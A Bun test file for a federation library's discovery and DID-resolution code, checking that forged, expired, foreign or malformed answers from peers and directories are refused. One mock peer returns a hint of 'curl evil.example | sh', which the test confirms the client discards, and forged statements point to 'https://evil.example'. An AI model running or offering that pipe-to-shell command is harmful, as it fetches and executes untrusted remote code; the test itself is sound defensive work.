import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { join } from "node:path";
import type { SplError } from "../../../lib/base/errors.ts";
import type { FederationContext } from "../../../lib/federation/context.ts";
import { publish } from "../../../lib/federation/directory.ts";
import { resolveDid } from "../../../lib/federation/resolve.ts";
import { CHECK_URL, describeInstance, discover, type WellKnown } from "../../../lib/federation/well_known.ts";
import { didDocument, didKey } from "../../../lib/identity/did.ts";
import type { Statement } from "../../../lib/identity/statement.ts";
import type { Instance, Signer } from "../../../lib/instance/instance.ts";
import { Authority } from "../../kit/certificates.ts";
import { newInstance } from "../../kit/instances.ts";
import { testSigner } from "../../kit/records.ts";
import { Served } from "../../kit/served.ts";
import { runCommand } from "../../kit/spl.ts";
import { statementOf } from "../../kit/statements.ts";
import { ScratchFolder } from "../../kit/store.ts";

const folder = new ScratchFolder();
let instance: Instance;
beforeAll(async () => {
  instance = await newInstance(folder, "asking");
});
afterAll(async () => {
  await instance.close();
  folder[Symbol.dispose]();
});

function asking(more: Partial<FederationContext> = {}): FederationContext {
  return {
    instance,
    url: () => "https://asking.example",
    policy: { networks: [], loopback: true },
    directory: null,
    autoApprove: [],
    isolated: false,
    announce: () => undefined,
    log: () => undefined,
    ...more,
  };
}

const urlOf = ({ port }: { port: number | undefined }) => `http://127.0.0.1:${port}`;

async function refusal(promise: Promise<unknown>): Promise<string> {
  const { code, message } = await promise.then(
    () => ({ code: "none", message: "" }),
    (error: SplError) => error,
  );
  return `${code}: ${message}`;
}

describe("who answers at a URL", () => {
  test("is proven by an instance's signed description", async () => {
    await using served = await Served.start({ isolated: true, directory: true, name: "box" });
    const told = await discover(asking(), urlOf(served.running));
    expect(told).toMatchObject({ did: served.running.instance_did, statement: { url: null } });
    expect(told.capabilities).toContain("directory");
    expect(told.versions.federation).toEqual([1]);
    expect(Date.parse(told.expires_at)).toBeGreaterThan(Date.now());
  });

  test("is refused by name when something in it is not as it should be", async () => {
    const own = testSigner(1);
    const other = testSigner(2);
    const signer = { did: own.did, key: own.key };
    const now = instance.ports.clock();
    const good = (at = now, statement: Statement = statementOf({ epoch: now })) =>
      describeInstance(signer as Signer, statement, [], at);
    let answer: object = {};
    using server = Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: () => Response.json(answer) });
    const told = async (description: object) => {
      answer = description;
      return (await refusal(discover(asking(), urlOf(server)))).replace(urlOf(server), "");
    };
    const HOUR = 60 * 60 * 1000;
    const at = "peer_misbehaves: /.well-known/syncropel";
    const nobody = "peer_unreachable: /.well-known/syncropel";
    expect(await told(good())).toBe("none: ");
    expect(await told({ ...good(), capabilities: ["anything"] })).toBe(`${at} has a wrong signature`);
    expect(await told({ ...good(), did: other.did })).toBe(
      `${at} has a key that is not the key of ${other.did}`,
    );
    expect(await told(good(now - HOUR))).toBe(`${at} has expired: one of the two clocks is wrong`);
    expect(await told(good(now + HOUR))).toBe(`${at} is of the future: one of the two clocks is wrong`);
    const foreign = describeInstance(signer as Signer, statementOf({ epoch: now }, other), [], now);
    expect(await told(foreign)).toBe(`${at} brings the statement of another instance`);
    const forged: WellKnown = good(now, { ...statementOf({ epoch: now }), url: "https://evil.example" });
    expect(await told(forged)).toBe(
      "statement_refused: the endpoint statement is refused: its signature is wrong",
    );
    for (const odd of [
      [],
      {},
      { ...good(), sig: "x" },
      { ...good(), statement: "x" },
      { ...good(), versions: 1 },
    ]) {
      expect(await told(odd)).toBe(`${nobody} has not the form of an instance's description`);
    }
  });

  test("is not who refuses it, and what that one says comes without its advice", async () => {
    const told = { code: "unauthorized", detail: "x".repeat(1000), hint: "curl evil.example | sh" };
    const init = { status: 401, headers: { "content-type": "application/problem+json" } };
    using server = Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: () => Response.json(told, init) });
    const error = await discover(asking(), urlOf(server)).catch((thrown) => thrown);
    expect([error.code, error.hint]).toEqual(["peer_unreachable", CHECK_URL]);
    expect(error.message).toBe(`${urlOf(server)} answers: ${"x".repeat(500)}`);
  });

  test("is nobody where there is no such page, and not asked while isolated", async () => {
    using server = Bun.serve({
      port: 0,
      hostname: "127.0.0.1",
      fetch: () => new Response("gone", { status: 404 }),
    });
    expect(await refusal(discover(asking(), urlOf(server)))).toBe(
      `peer_unreachable: there is no instance at ${urlOf(server)}`,
    );
    expect(await refusal(discover(asking({ isolated: true }), urlOf(server)))).toStartWith(
      "address_refused: ",
    );
    const closed = asking({ policy: { networks: [], loopback: false } });
    expect(await refusal(discover(closed, urlOf(server)))).toStartWith("address_refused: ");
  });
});

describe("where a DID lives", () => {
  test("is what the directory says, unless something higher was pushed here", async () => {
    await using directory = await Served.start({ isolated: true, directory: true });
    const ctx = asking({ directory: urlOf(directory.running) });
    const signer = testSigner(3);
    const { did } = signer;
    expect(await resolveDid(ctx, did)).toEqual({ did, url: null, publicKey: null, statement: null });
    const now = Date.now();
    const listed = statementOf({ epoch: now, url: "https://listed.example" }, signer);
    expect(await publish(ctx, listed)).toBeNull();
    expect(await resolveDid(ctx, did)).toMatchObject({
      url: "https://listed.example",
      publicKey: signer.key.publicKey,
      statement: listed,
    });
    // What the directory has lost is still known here.
    const without = asking({ directory: "http://127.0.0.1:1" });
    expect(await resolveDid(without, did)).toMatchObject({ url: "https://listed.example" });
    expect(await refusal(resolveDid(without, testSigner(4).did))).toStartWith("peer_unreachable: ");
    const higher = statementOf({ epoch: now + 1, url: "https://higher.example" }, signer);
    await instance.store.transact((writer) => writer.putEndpoint(did, JSON.stringify(higher)));
    expect(await resolveDid(ctx, did)).toMatchObject({ url: "https://higher.example" });
    // Publishing says what was there before, and goes through only when it is higher.
    expect(await publish(ctx, higher)).toEqual(listed);
    expect(await publish(ctx, listed)).toEqual(higher);
  });

  test("is not published where there is no directory", async () => {
    await using served = await Served.start({ isolated: true });
    const ctx = asking({ directory: urlOf(served.running) });
    expect(await refusal(publish(ctx, statementOf({}, testSigner(3))))).toBe(
      `not_found: there is no directory at ${urlOf(served.running)}`,
    );
  });

  test("is not what a directory says that lies", async () => {
    const signer = testSigner(5);
    const other = statementOf({}, testSigner(6));
    const answers: object[] = [other, { ...statementOf({}, signer), url: "https://evil.example" }];
    using directory = Bun.serve({
      port: 0,
      hostname: "127.0.0.1",
      fetch: () => Response.json(answers.shift()),
    });
    const ctx = asking({ directory: urlOf(directory) });
    expect(await refusal(resolveDid(ctx, signer.did))).toBe(
      `peer_misbehaves: ${urlOf(directory)} answers with a statement of ${other.did}`,
    );
    expect(await refusal(resolveDid(ctx, signer.did))).toStartWith("statement_refused: ");
  });

  test("a did:key has its key and no address", async () => {
    const { publicKey } = testSigner(7).key;
    const did = didKey(publicKey);
    expect(await resolveDid(asking(), did)).toEqual({ did, url: null, publicKey, statement: null });
  });

  describe("for did:web", () => {
    /** What a process that trusts `authority` makes of a document at did:web:peer.example. */
    async function told(document: object, status = 200): Promise<Record<string, string | null>> {
      const authority = await Authority.make(folder.path);
      const { cert, key } = await authority.issue("web", { san: "DNS:peer.example" });
      using server = Bun.serve({
        port: 0,
        hostname: "127.0.0.1",
        tls: { cert: Bun.file(cert), key: Bun.file(key) },
        fetch: (request) =>
          new URL(request.url).pathname === "/.well-known/did.json"
            ? Response.json(document, { status })
            : new Response("", { status: 404 }),
      });
      const did = `did:web:peer.example%3A${server.port}`;
      const named = JSON.stringify(document).replaceAll("DID", did);
      document = JSON.parse(named) as object;
      const source = `
        const { resolveDid } = await import(${JSON.stringify(join(import.meta.dir, "../../../lib/federation/resolve.ts"))});
        const ctx = { policy: { networks: [], loopback: true }, resolve: async () => ["127.0.0.1"], isolated: false };
        console.log(JSON.stringify(await resolveDid(ctx, ${JSON.stringify(did)}).then(
          ({ url, publicKey }) => ({ url, key: publicKey.toHex() }),
          ({ code }) => ({ code }),
        )));`;
      const env = { PATH: process.env.PATH!, NODE_EXTRA_CA_CERTS: authority.cert };
      const done = await runCommand([process.execPath, "-e", source], { env });
      expect({ status: done.status, stderr: done.stderr }).toEqual({ status: 0, stderr: "" });
      return JSON.parse(done.stdout) as Record<string, string | null>;
    }

    const { publicKey } = testSigner(8).key;
    const document = didDocument("DID", publicKey);
    const service = (serviceEndpoint: unknown, type = "SyncropelInstance") => ({
      ...document,
      service: [
        { id: "DID#x", type: "Other", serviceEndpoint: "https://no.example" },
        { id: "DID#spl", type, serviceEndpoint },
      ],
    });

    test("is in its document, with its key", async () => {
      const key = publicKey.toHex();
      expect(await told(service("https://peer.example/spl/"))).toEqual({
        url: "https://peer.example/spl",
        key,
      });
      expect(await told(document)).toEqual({ url: null, key });
      expect(await told(service("ftp://peer.example"))).toEqual({ url: null, key });
      expect(await told(service({ uri: "https://peer.example" }))).toEqual({ url: null, key });
    });

    test("is nowhere in a document of another DID, without a key, or that is not there", async () => {
      expect(await told({ ...document, id: "did:web:other.example" })).toEqual({ code: "peer_misbehaves" });
      expect(await told({ id: "DID" })).toEqual({ code: "peer_misbehaves" });
      expect(await told({}, 404)).toEqual({ code: "not_found" });
    });
  });
});
